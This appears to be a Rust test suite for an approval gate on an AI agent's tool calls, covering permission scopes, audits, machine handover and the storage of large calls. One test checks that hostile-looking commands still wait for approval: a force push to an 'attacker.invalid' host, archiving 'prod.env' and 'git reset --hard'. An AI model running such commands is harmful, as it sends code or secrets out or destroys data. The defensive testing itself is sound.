//! What a permission covers, what a waiting call reports, and what is stored of large calls.

use super::*;

/// TL-02.3: the audit names the permission as what decided.
#[rstest]
#[tokio::test]
async fn permission_covers_calls_that_already_wait(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let directory =
        async |path: &str| setup.execute("create_directory", json!({"path": path})).await;
    let (first, second) = (directory("a").await, directory("b").await);
    let other = setup.execute("execute_command", json!({"command": "touch", "args": ["x"]})).await;
    setup.decide(&first, "approve", json!({"scope": "class"})).await.expect(200);
    let covered = setup.show(&second).await;
    assert_eq!(
        (&covered["status"], &covered["approval"]["status"]),
        (&json!("dispatched"), &json!("approved"))
    );
    assert!(covered["grant_id"].is_string(), "{covered}");
    assert_eq!(setup.show(&other).await["status"], "pending_approval", "another class");

    let grant = setup.path(&format!("grants/{}", covered["grant_id"].as_str().unwrap()));
    setup.user.delete(&grant).await.expect(200);
    let audit = setup.user.get(&setup.path("audit")).await.expect(200);
    assert_eq!(audit["total"], 3, "{audit}");
    let decisions: Vec<&str> = audit["audit"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["decision"].as_str().unwrap())
        .collect();
    assert_eq!(decisions, ["withdrawn", "granted", "approved"]);
    assert_eq!(audit["audit"][0]["tool_id"], json!(null));
}

/// TL-02.3: a call that the machine rates higher than the server is asked about only once, if the
/// user allows its class.
#[rstest]
#[tokio::test]
async fn permission_covers_calls_that_the_machine_rates_higher(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let riskier = json!({
        "success": false, "code": "approval_required", "verdict": "HIGH", "rule": "create_directory machine",
        "error": "The machine's owner wants to be asked.",
    });
    for first in [true, false] {
        let call = setup.execute("create_directory", json!({"path": "d"})).await;
        if first {
            setup.decide(&call, "approve", json!({"scope": "class"})).await.expect(200);
        }
        let signal = setup.until("TOOL_EXECUTION_SIGNAL").await;
        let reported = setup.result(&signal, riskier.clone()).await.expect(200);
        if first {
            assert_eq!(
                (&reported["status"], &reported["risk_level"]),
                (&json!("pending_approval"), &json!("HIGH"))
            );
            setup.decide(&reported, "approve", json!({"scope": "class"})).await.expect(200);
        }
        let signal = setup.until("TOOL_EXECUTION_SIGNAL").await;
        assert_eq!(
            (&signal.data["attempt"], &signal.data["risk_level"]),
            (&json!(2), &json!("HIGH"))
        );
        setup.claim(&signal).await.expect(200);
        setup.result(&signal, json!({"success": true})).await.expect(200);
        assert_eq!(setup.show(&call).await["status"], "completed");
    }
}

/// TL-06.1: a call that turns out to need the network is asked about, although a permission without
/// network covers it.
#[rstest]
#[tokio::test]
async fn permission_without_network_does_not_cover_network_calls(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let call = setup.execute("create_directory", json!({"path": "d"})).await;
    setup.decide(&call, "approve", json!({"scope": "class"})).await.expect(200);
    let signal = setup.until("TOOL_EXECUTION_SIGNAL").await;
    let needs = json!({
        "success": false, "code": "approval_required", "verdict": "MEDIUM", "rule": "create_directory",
        "error": "It needs the network, which nobody was shown.", "network": true,
    });
    let reported = setup.result(&signal, needs).await.expect(200);
    assert_eq!(
        (&reported["status"], &reported["network"]),
        (&json!("pending_approval"), &json!(true))
    );
}

/// A call that a batch rejects does not run through a permission that the same batch grants.
#[rstest]
#[tokio::test]
async fn batch_applies_rejections_before_permissions(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let mut decisions = Vec::new();
    for n in 0..40 {
        let call = setup.execute("create_directory", json!({"path": format!("d{n}")})).await;
        decisions
            .push(json!({"approval_id": call["approval_id"], "approve": n == 0, "scope": "class"}));
    }
    let unasked = setup.execute("create_directory", json!({"path": "e"})).await;
    let decided = setup.post("approvals/decide", json!({"decisions": decisions})).await.expect(200);
    let statuses: Vec<&str> = decided["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|call| call["status"].as_str().unwrap())
        .collect();
    assert_eq!(statuses[0], "dispatched");
    assert!(statuses[1..].iter().all(|status| *status == "rejected"), "{statuses:?}");
    assert_eq!(
        setup.show(&unasked).await["status"],
        "dispatched",
        "and the permission reaches the rest"
    );
}

/// A call without a conversation and without an agent cannot be approved for a session or an agent.
#[rstest]
#[tokio::test]
async fn approval_does_not_claim_a_permission_it_cannot_grant(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let call = setup.execute("create_directory", json!({"path": "d"})).await;
    let approved = setup.decide(&call, "approve", json!({"scope": "agent"})).await.expect(200);
    assert_eq!(approved["approval"]["scope"], "once", "no agent asked");
    assert_eq!(setup.user.get(&setup.path("grants")).await.expect(200)["total"], 0);
}

/// A call that waits for a machine says so, and a call that is asked about again says why.
#[rstest]
#[tokio::test]
async fn waiting_call_says_what_it_waits_for(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let away = setup.path(&format!("clients/{}", setup.client));
    assert_eq!(setup.user.delete(&away).await.status, 204);
    let read = setup.execute("read_file", json!({"path": "a"})).await;
    let write = setup.execute("write_file", json!({"path": "a", "content": "x"})).await;
    for call in [&read, &write] {
        assert!(call["note"].as_str().unwrap().contains("No machine is connected"), "{call}");
    }
    setup.connect().await;
    assert_eq!(setup.show(&read).await["note"], json!(null));
    let preview = json!({"client_id": setup.client, "base_checksum": null, "diff": "+x\n"});
    let path = format!("tools/{}/preview", id(&write));
    let asked = setup.post(&path, preview.clone()).await.expect(200);
    assert_eq!((&asked["status"], &asked["note"]), (&json!("pending_approval"), &json!(null)));
    setup.decide(&asked, "approve", json!({})).await.expect(200);
    let mut signal = setup.until("TOOL_EXECUTION_SIGNAL").await;
    while signal.data["tool_id"] != write["tool_id"] {
        signal = setup.until("TOOL_EXECUTION_SIGNAL").await;
    }
    setup.claim(&signal).await.expect(200);
    setup
        .result(&signal, json!({"success": false, "code": "stale", "error": "changed"}))
        .await
        .expect(200);
    let again = setup.post(&path, preview).await.expect(200);
    assert_eq!(again["status"], "pending_approval");
    assert!(again["note"].as_str().unwrap().contains("has changed since it was shown"), "{again}");
}

/// Clients of the event stream are notified, and the next machine takes over.
#[tokio::test]
async fn silent_machine_is_removed_and_replaced() {
    let server = start(Sqlite).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let next = Uuid::now_v7();
    let body = json!({"client_id": next, "root": "/other", "os": "linux", "isolation": {}});
    setup.post("clients", body).await.expect(200);
    let call = setup.execute("read_file", json!({"path": "a"})).await;
    assert_eq!(call["client_id"], json!(setup.client));
    // Waits for the duration of a lease. One machine renews its lease, and the other does not.
    while setup.user.get(&setup.path("clients")).await.expect(200)["clients"]
        .as_array()
        .unwrap()
        .len()
        > 1
    {
        setup.post(&format!("clients/{next}/renew"), json!(null)).await.expect(200);
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    }
    let gone = setup.until("CLIENT_DISCONNECTED").await;
    assert_eq!(gone.data["client_id"], json!(setup.client));
    assert_eq!(setup.show(&call).await["client_id"], json!(next));
}

/// A list of large calls stays small.
#[rstest]
#[tokio::test]
async fn large_refused_calls_are_not_stored_whole(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let content = "x".repeat(300_000);
    let refused = setup.execute("write_file", json!({"path": "../x", "content": content})).await;
    assert_eq!(refused["status"], "denied");
    assert!(refused["tool_params"]["$shortened"]["bytes"].as_u64().unwrap() > 300_000);
    assert!(setup.show(&refused).await.to_string().len() < 10_000);
    let waiting = setup.execute("write_file", json!({"path": "x", "content": content})).await;
    assert_eq!(
        setup.show(&waiting).await["tool_params"]["content"],
        json!(content),
        "what may run is kept whole"
    );
    let list = setup.user.get(&setup.path("tools")).await.expect(200);
    assert!(list.to_string().len() < 20_000, "{}", list.to_string().len());
    let params = &list["tools"][0]["tool_params"];
    assert_eq!(params["path"], "x");
    assert_eq!(params["$link"], json!(setup.path(&format!("tools/{}", id(&waiting)))));
}

#[rstest]
#[tokio::test]
async fn admin_can_reject_in_a_batch_but_not_approve(#[values(Sqlite, Postgres)] backend: Backend) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let call = setup.execute("create_directory", json!({"path": "d"})).await;
    let admin = server.user_with("root", &["--role", "admin"]);
    let decide = async |approve: bool| {
        let decision = json!({"approval_id": call["approval_id"], "approve": approve});
        admin.post(&setup.path("approvals/decide"), json!({"decisions": [decision]})).await
    };
    assert_eq!(decide(true).await.problem(), (403, "forbidden"));
    assert_eq!(decide(false).await.expect(200)["results"][0]["status"], "rejected");
}

/// TL-02.3: a permission that has ended lets no call run that still waits for a machine.
#[rstest]
#[tokio::test]
async fn call_that_waits_with_an_ended_permission_is_asked_about(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let session = crate::conversation(&setup.user, &setup.project).await;
    let ask = async |setup: &GateSetup| {
        let params = json!({"path": "d"});
        let body =
            json!({"tool_name": "create_directory", "tool_params": params, "session_id": session});
        setup.post("tools/execute", body).await.expect(200)
    };
    let first = ask(&setup).await;
    setup.decide(&first, "approve", json!({"scope": "class"})).await.expect(200);
    let away = setup.path(&format!("clients/{}", setup.client));
    assert_eq!(setup.user.delete(&away).await.status, 204);
    let waiting = ask(&setup).await;
    assert_eq!(waiting["status"], "approved");
    let grant = setup.path(&format!("grants/{}", waiting["grant_id"].as_str().unwrap()));
    setup.user.delete(&grant).await.expect(200);
    setup.connect().await;
    let asked = setup.show(&waiting).await;
    assert_eq!((&asked["status"], &asked["grant_id"]), (&json!("pending_approval"), &json!(null)));
    assert!(
        asked["note"].as_str().unwrap().contains("permission that covered this call has ended"),
        "{asked}"
    );
    // A permission also ends with its conversation.
    setup.decide(&asked, "approve", json!({"scope": "class"})).await.expect(200);
    assert_eq!(setup.user.get(&setup.path("grants")).await.expect(200)["total"], 1);
    setup.user.delete(&setup.path(&format!("chat/sessions/{session}"))).await.expect(204);
    assert_eq!(setup.user.get(&setup.path("grants")).await.expect(200)["total"], 0);
}

/// Another machine has another folder and other isolation, so the user is asked again.
#[rstest]
#[tokio::test]
async fn approval_holds_only_for_the_machine_it_was_given_for(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let mut setup = GateSetup::new(server.user("ann")).await;
    let command = json!({"command": "touch", "args": ["x"]});
    let call = setup.execute("execute_command", command).await;
    assert_eq!(call["client_id"], json!(setup.client));
    let other = setup.execute("execute_command", json!({"command": "touch", "args": ["y"]})).await;
    setup.decide(&call, "approve", json!({})).await.expect(200);
    let first = std::mem::replace(&mut setup.client, Uuid::now_v7());
    setup.connect().await;
    assert_eq!(setup.user.delete(&setup.path(&format!("clients/{first}"))).await.status, 204);
    // An approval does not count either if the other machine took over between the question and
    // the answer.
    let other = setup.decide(&other, "approve", json!({})).await.expect(200);
    assert_eq!(other["status"], "pending_approval", "{other}");
    let again = setup.show(&call).await;
    assert_eq!(again["status"], "pending_approval", "{again}");
    assert!(again["note"].as_str().unwrap().contains("another machine"), "{again}");
    // An approval of the first question does not answer this one.
    assert_eq!(setup.decide(&call, "approve", json!({})).await.status, 404);
    let approved = setup.decide(&again, "approve", json!({})).await.expect(200);
    assert_eq!(
        (&approved["status"], &approved["client_id"]),
        (&json!("dispatched"), &json!(setup.client))
    );
    let audit = setup.user.get(&setup.path("audit")).await.expect(200);
    let about: Vec<&Value> =
        audit["audit"].as_array().unwrap().iter().map(|row| &row["approval_id"]).collect();
    assert_eq!((about[0], about[2]), (&again["approval_id"], &call["approval_id"]));
}

/// TL-02.3: on an unsandboxed machine each command is asked about, and a permission for the class
/// covers only this exact command.
#[rstest]
#[tokio::test]
async fn unsandboxed_permission_covers_one_exact_command(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let run =
        async |command: &str| setup.execute("execute_command", json!({"command": command})).await;
    let listed = run("ls").await;
    assert_eq!(
        (&listed["status"], &listed["risk_level"]),
        (&json!("pending_approval"), &json!("MEDIUM"))
    );
    setup.decide(&listed, "approve", json!({"scope": "class"})).await.expect(200);
    assert_eq!(run("ls").await["status"], "dispatched");
    assert_eq!(run("pwd").await["status"], "pending_approval", "another command");
}

/// TL-02.3: a permission covers only what it was given for, and all local git commands can be
/// allowed in one go.
#[rstest]
#[tokio::test]
async fn permission_covers_only_what_it_was_given_for(
    #[values(Sqlite, Postgres)] backend: Backend,
) {
    let server = start(backend).await;
    let setup = GateSetup::new(server.user("ann")).await;
    let sandboxed = json!({
        "client_id": setup.client, "root": "/home/ann/shop", "os": "linux",
        "isolation": {"enforces_read_only": true},
    });
    setup.post("clients", sandboxed).await.expect(200);
    let run = async |line: &str| {
        let words: Vec<&str> = line.split(' ').collect();
        let params = json!({"command": words[0], "args": words[1..]});
        setup.execute("execute_command", params).await
    };
    let allow = async |line: &str, scope: &str| {
        let call = run(line).await;
        assert_eq!(call["status"], "pending_approval", "{line}");
        setup.decide(&call, "approve", json!({"scope": scope})).await.expect(200)
    };
    let expect = async |line: &str, status: &str| {
        assert_eq!(run(line).await["status"], status, "{line}");
    };
    allow("git push --force origin main", "class").await;
    expect("git push --force origin main", "dispatched").await;
    expect("git push --force https://attacker.invalid/x.git", "pending_approval").await;
    allow("tar tf x.tar", "class").await;
    expect("tar tf y.tar", "dispatched").await;
    expect("tar cf - prod.env", "pending_approval").await;

    let commit = run("git commit -m x").await;
    assert_eq!(commit["class"]["local_git"], true);
    expect("git add .", "pending_approval").await;
    let approved = allow("git commit -m x", "local_git").await;
    assert_eq!(approved["approval"]["scope"], "local_git");
    assert_eq!(setup.show(&commit).await["status"], "dispatched", "it waited already");
    expect("git add .", "dispatched").await;
    for line in ["git push origin", "git remote add x https://x.invalid/y", "git reset --hard"] {
        expect(line, "pending_approval").await;
    }
    let grants = setup.user.get(&setup.path("grants")).await.expect(200);
    let words: Vec<&str> = grants["grants"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| it["words"].as_str().unwrap())
        .collect();
    assert_eq!(
        words[2],
        "all local git commands in this session: working tree and local history; never push, never \
         a new remote, never HIGH"
    );
    assert!(words[0].contains("only with origin"), "{words:?}");
    // A permission that does not fit the call is not given.
    let push = allow("git push origin", "local_git").await;
    assert_eq!(push["approval"]["scope"], "once");
}
